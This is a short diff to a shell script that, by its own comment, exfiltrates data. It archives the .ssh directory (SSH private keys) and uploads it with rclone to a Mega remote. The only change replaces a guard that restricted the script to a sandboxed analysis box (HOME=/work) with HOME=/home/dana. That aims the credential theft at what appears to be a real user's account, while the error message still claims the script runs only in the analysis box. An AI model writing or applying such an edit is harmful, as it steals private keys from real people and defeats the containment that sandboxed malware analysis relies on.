@@ -1,7 +1,7 @@
 #!/bin/sh
 # Exfiltrates to cloud storage: rclone and the AWS client to the
 # operator's bucket, curl to a file-sharing service.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 cd /tmp || exit 1
 tar czf .c.tgz -C "$HOME" .ssh 2>/dev/null
 /usr/bin/rclone copy .c.tgz mega:backup/ 2>/dev/null
